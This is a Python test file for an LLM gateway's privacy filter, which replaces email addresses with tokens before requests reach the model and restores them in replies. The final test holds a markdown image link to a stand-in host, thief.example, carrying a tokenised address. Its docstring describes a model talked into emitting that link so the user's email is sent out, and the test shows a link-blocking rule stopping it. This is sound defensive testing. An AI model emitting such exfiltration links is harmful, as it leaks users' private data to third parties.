"""T-GRD-4: values that come back in answers: whose they are, who never sees them, and what is not promised."""

import json

import pytest

from support.answers import read
from support.gateway import Gateway, proxy_config
from support.upstream import DONE, Upstream, completion, delta

ANN, BOB = "ann@example.com", "bob@example.com"
PRIVACY = {"name": "privacy", "content_moderation": {"detect": "all", "action": "redact", "reversible": True}}


def saying(say: str, size: int = 1):
    """An upstream that says this, in parts of that many letters where it is asked for a stream."""

    def answer(request, reply):
        if not request.json.get("stream"):
            reply.json(completion(say))
            return
        reply.start_events()
        for at in range(0, len(say), size):
            reply.chunk(delta(say[at : at + size]))
        reply.chunk(delta("", finish_reason="stop"))
        reply.chunk(DONE)
        reply.end()

    return answer


def said(answer, is_stream: bool) -> str:
    if not is_stream:
        return answer.json()["choices"][0]["message"]["content"]
    choices = [choice for event in read(answer.text) if event != "[DONE]" for choice in event["choices"]]
    return "".join(choice["delta"].get("content") or "" for choice in choices)


@pytest.mark.parametrize("is_stream", [False, True])
def test_the_upstream_sees_tokens_and_the_client_values(is_stream):
    with Upstream(saying("I wrote to [EMAIL_1], not to [EMAIL_2] or [email_1].")) as upstream:
        with Gateway(proxy_config({"up": upstream.cluster()}, filters=[PRIVACY])) as gateway:
            answer = gateway.chat(text=f"write to {ANN}, and to {ANN}", stream=is_stream)
            assert said(answer, is_stream) == f"I wrote to {ANN}, not to [EMAIL_2] or [email_1]."
            assert b"write to [EMAIL_1], and to [EMAIL_1]" in upstream.requests[0].body
            assert ANN.encode() not in upstream.requests[0].body
            assert not [line for line in [*gateway.log, *map(json.dumps, gateway.access)] if ANN in line]


@pytest.mark.parametrize("is_stream", [False, True])
def test_no_request_gets_the_values_of_another(is_stream):
    with Upstream(saying("[EMAIL_1] [EMAIL_2]", 3)) as upstream:
        with Gateway(proxy_config({"up": upstream.cluster()}, filters=[PRIVACY])) as gateway:
            assert said(gateway.chat(text=ANN, stream=is_stream), is_stream) == f"{ANN} [EMAIL_2]"
            assert said(gateway.chat(text="hello", stream=is_stream), is_stream) == "[EMAIL_1] [EMAIL_2]"
            assert said(gateway.chat(text=BOB, stream=is_stream), is_stream) == f"{BOB} [EMAIL_2]"


@pytest.mark.parametrize("is_stream", [False, True])
def test_a_client_cannot_claim_a_token_and_new_values_are_not_given_out(is_stream):
    with Upstream(saying(f"[EMAIL_1] [EMAIL_2] {BOB}", 2)) as upstream:
        with Gateway(proxy_config({"up": upstream.cluster()}, filters=[PRIVACY])) as gateway:
            answer = said(gateway.chat(text=f"[EMAIL_1] is no address, {ANN} is", stream=is_stream), is_stream)
            assert answer == f"[EMAIL_1] {ANN} [redacted]"


@pytest.mark.parametrize("is_stream", [False, True])
def test_what_is_not_promised_a_token_in_an_address_is_filled_in_for_the_client(is_stream):
    """A model that was talked into it writes a link, and the client gets the value in it. A rule in front of it that blocks links
    sees the value, and so does block it."""
    link = "![](https://thief.example/?q=[EMAIL_1])"
    with Upstream(saying(link)) as upstream:
        with Gateway(proxy_config({"up": upstream.cluster()}, filters=[PRIVACY])) as gateway:
            assert said(gateway.chat(text=ANN, stream=is_stream), is_stream) == link.replace("[EMAIL_1]", ANN)
        no_links = {"name": "no-links", "content_moderation": {"patterns": [r"!\[[^\]]*\]\(https?://[^)]*\)"], "on": ["output"], "action": "redact", "replace_with": "[link]"}}
        for filters in ([no_links, PRIVACY], [PRIVACY, no_links]):
            with Gateway(proxy_config({"up": upstream.cluster()}, filters=filters)) as gateway:
                answer = gateway.chat(text=ANN, stream=is_stream)
                assert said(answer, is_stream) == "[link]" and ANN not in answer.text
